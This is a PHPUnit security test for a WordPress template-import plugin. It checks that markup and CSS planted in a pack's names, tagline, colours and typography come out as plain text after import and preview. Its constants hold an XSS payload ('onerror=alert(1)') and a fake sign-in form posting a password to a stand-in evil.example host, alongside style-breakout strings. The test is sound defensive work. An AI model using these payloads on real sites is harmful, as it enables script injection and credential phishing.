<?php
/**
 * Security [20]: a pack from an old or hostile hub — markup in its names,
 * its sample posts, its title and tagline, CSS in its colours and
 * typography — through a real import and the two previews.
 *
 * @package Stencilbox
 */

namespace Stencilbox\Tests\Site\FullSiteImport;

use Stencilbox\Hub\Catalog\CatalogVersion;
use Stencilbox\Plugin;
use Stencilbox\Site\FullSiteImport\PreviewPage;
use Stencilbox\Support\Names;
use Stencilbox\Tests\FullSiteImportTestCase;

/**
 * The hub's rows are written straight into its tables, as an install from
 * before its intake filtered them (or another hub) holds them: the package
 * the hub builds and the pack info it answers carry them as they are.
 *
 * @database-neutral plants hostile names in rows and reads them back; escaping, not SQL.
 */
final class HostilePackTest extends FullSiteImportTestCase {
	private const IMG  = '<img src=x onerror=alert(1)>';
	private const FORM = '<form id="pwn" action="https://evil.example/"><input name="pwd" type="password"><button>Sign in</button></form>';

	protected function tearDown(): void {
		remove_all_filters( 'pre_option_blogname' );
		remove_all_filters( 'pre_option_blogdescription' );
		parent::tearDown();
	}

	/**
	 * Harbor as an old hub holds it: markup in the pack's name, in two
	 * items' names, in its sample post, its title and tagline; CSS and
	 * markup in a colour and a typography entry.
	 */
	private function old_hub(): void {
		global $wpdb;
		$items                        = Names::table( 'catalog_items' );
		$settings                     = json_decode( (string) $this->catalog->row( $this->harbor() )['settings'], true );
		$settings['site_title']       = 'Harbor' . self::IMG;
		$settings['tagline']          = self::FORM . ' Session expired & locked';
		$settings['colors'][]         = array(
			'id'    => 'evil',
			'title' => 'Evil' . self::IMG,
			'color' => '#fff}</style>' . self::FORM . '<style>',
		);
		$settings['typography'][]     = array(
			'id'          => 'h2',
			'title'       => 'Second' . self::IMG,
			'font_family' => 'Inter"}</style>' . self::FORM,
			'font_weight' => '700}</style>' . self::FORM,
			'font_size'   => array( 'desktop' => array( 'value' => 2, 'unit' => 'em}</style>' . self::FORM ) ),
		);
		$settings['posts'][0]['title']   = 'Notes' . self::IMG;
		$settings['posts'][0]['excerpt'] = 'From the harbour' . self::IMG;
		$wpdb->update(
			$items,
			array(
				'name'     => 'Harbor' . self::IMG . ' - Creative Agency',
				'settings' => wp_json_encode( $settings ),
			),
			array( 'id' => $this->harbor() )
		);
		foreach ( array(
			'harbor-about'  => 'page',
			'harbor-header' => 'block',
		) as $slug => $type ) {
			$wpdb->update( $items, array( 'name' => ucwords( str_replace( '-', ' ', $slug ) ) . self::IMG ), array( 'id' => (int) $this->catalog->id_of( 'gutenberg', $slug, $type ) ) );
		}
		CatalogVersion::bump();
	}

	/**
	 * Asserts a text holds no markup.
	 *
	 * @param mixed  $text  Text.
	 * @param string $where What it is.
	 */
	private function assert_plain( mixed $text, string $where ): void {
		$this->assertIsString( $text, $where );
		$this->assertStringNotContainsString( '<', $text, $where );
		$this->assertStringNotContainsString( 'onerror', $text, $where );
	}

	public function test_markup_in_a_packs_names_and_settings_is_plain_text_after_a_real_import(): void {
		$this->old_hub();

		// What the wizard is told.
		$info = $this->rest( 'GET', '/stencilbox/v1/full-site-import/info', array( 'id' => $this->harbor() ) )->get_data()['data'];
		$this->assertSame( 'Harbor - Creative Agency', $info['pack']['name'] );
		$this->assertSame( 'Harbor', $info['settings']['site_title'] );
		$this->assertSame( 'Sign in Session expired & locked', $info['settings']['tagline'] );
		$this->assertSame( 'About', array_column( $info['contents']['pages'], 'title', 'slug' )['harbor-about'] );
		// A colour that is not a colour is left out; a typography entry keeps only what is valid.
		$this->assertNotContains( 'evil', array_column( $info['settings']['colors'], 'id' ) );
		$h2 = array_column( $info['settings']['typography'], null, 'id' )['h2'];
		$this->assertSame( 'Second', $h2['title'] );
		$this->assertSame( 'InterSign in', $h2['font_family'], 'a family name: plain text, no CSS punctuation' );
		$this->assertArrayNotHasKey( 'font_weight', $h2 );
		$this->assertArrayNotHasKey( 'font_size', $h2 );

		// The wizard sends back the title and tagline it was given; the
		// hub's typography stays as the pack has it.
		$session = $this->start(
			$this->form(
				array(
					'title'      => 'Harbor' . self::IMG,
					'slogan'     => self::FORM . ' Session expired & locked',
					'typography' => array(),
				)
			)
		);
		$this->assertSame( 'complete', $this->run_to_end( $session ) );

		// Every post the import made: pages, the sample post, the kit
		// templates, the menu.
		global $wpdb;
		$made = $wpdb->get_results( "SELECT post_type, post_name, post_title, post_excerpt FROM {$wpdb->posts} WHERE post_type IN ( 'page', 'post', 'wp_navigation', 'stencilbox_template' ) AND post_status = 'publish'", ARRAY_A );
		$this->assertNotEmpty( $made );
		foreach ( $made as $post ) {
			$this->assert_plain( $post['post_title'], "{$post['post_type']} {$post['post_name']}: title" );
			$this->assert_plain( $post['post_excerpt'], "{$post['post_type']} {$post['post_name']}: excerpt" );
		}
		$titles = array_column( $made, 'post_title', 'post_type' );
		$this->assertSame( 'Harbor - Creative Agency menu', $titles['wp_navigation'] );
		$this->assertContains( 'Harbor Header', array_column( $made, 'post_title' ) );
		$this->assertContains( 'Notes', array_column( $made, 'post_title' ) );

		// The visitor's page (the pack's About, named after its title):
		// core's post title prints the title as it is stored.
		$about = get_posts(
			array(
				'post_type' => 'page',
				'name'      => 'about',
			)
		)[0];
		$this->assertSame( 'About', $about->post_title );
		$GLOBALS['post'] = $about; // phpcs:ignore WordPress.WP.GlobalVariablesOverride.Prohibited -- the loop's post, as on its page.
		$title           = ( new \WP_Block( parse_blocks( '<!-- wp:post-title /-->' )[0], array( 'postId' => $about->ID, 'postType' => 'page' ) ) )->render();
		unset( $GLOBALS['post'] );
		$this->assertMatchesRegularExpression( '#<h2 [^>]*>About</h2>#', $title );

		// The site's title and tagline, as WordPress's options screen stores them.
		$this->assertSame( 'Harbor', get_option( 'blogname' ) );
		$this->assertSame( 'Sign in Session expired &amp; locked', get_option( 'blogdescription' ) );
		// The pack's colours and typography in the global styles: no CSS or markup of theirs.
		$styles = (string) \WP_Theme_JSON_Resolver::get_user_data_from_wp_global_styles( wp_get_theme() )['post_content'];
		$this->assertStringContainsString( '#aa3300', $styles );
		$this->assertStringNotContainsString( '<', $styles );
		$this->assertStringNotContainsString( '\u003c', $styles );
		$this->assertStringNotContainsString( 'evil', $styles );

		// The results the user is shown, and the imports list.
		$complete = array_values( array_filter( $this->log( $session ), static fn( array $e ): bool => 'complete' === $e['action'] ) );
		foreach ( $complete[0]['data']['pages'] as $page ) {
			$this->assert_plain( $page['title'], 'results: ' . $page['url'] );
		}
		$list = $this->rest( 'GET', '/stencilbox/v1/full-site-import/imports' )->get_data()['data'];
		$this->assertSame( 'Harbor - Creative Agency', $list[0]['pack_name'] );
	}

	public function test_the_previews_show_a_hostile_title_tagline_colour_and_names_as_text(): void {
		global $wpdb;
		$this->old_hub();
		// The header draws the site's title and tagline (core's blocks print
		// them as they are), and a menu ("Preview site" links the pack's pages there).
		$header  = (int) $this->catalog->id_of( 'gutenberg', 'harbor-header', 'block' );
		$content = Names::table( 'catalog_content' );
		$markup  = (string) $wpdb->get_var( $wpdb->prepare( "SELECT content FROM {$content} WHERE item_id = %d", $header ) ); // phpcs:ignore WordPress.DB.PreparedSQL.InterpolatedNotPrepared
		$wpdb->update( $content, array( 'content' => "<!-- wp:site-title /-->\n<!-- wp:site-tagline /-->\n<!-- wp:navigation /-->\n" . $markup ), array( 'item_id' => $header ) );
		CatalogVersion::bump();

		$preview = Plugin::instance()->service( PreviewPage::class );
		foreach ( array(
			'the wizard’s preview' => null,
			'Preview site'         => '',
			'Preview site: About'  => 'harbor-about',
		) as $what => $page ) {
			$html = $preview->render( $this->harbor(), $page );
			$this->assertStringContainsString( 'wp-block-site-tagline', $html, $what );
			// As the option would hold it (`sanitize_option()`, what core's block prints).
			$this->assertStringContainsString( 'Sign in Session expired &amp; locked', $html, "{$what}: the tagline, as text" );
			$this->assertStringNotContainsString( '<form', $html, $what );
			$this->assertStringNotContainsString( '<input', $html, $what );
			$this->assertStringNotContainsString( 'onerror', $html, $what );
			$this->assertStringNotContainsString( 'src="x"', $html, $what );
			$this->assertStringNotContainsString( 'evil.example', $html, $what );
			$this->assertStringNotContainsString( '--stencilbox-fsi-evil', $html, $what );
			if ( null !== $page ) {
				$this->assertMatchesRegularExpression( '#wp-block-navigation-item__label">About</span>#', $html, "{$what}: the pack's pages in its menu" );
			}
			remove_all_filters( 'pre_option_blogname' );
			remove_all_filters( 'pre_option_blogdescription' );
		}
	}
}
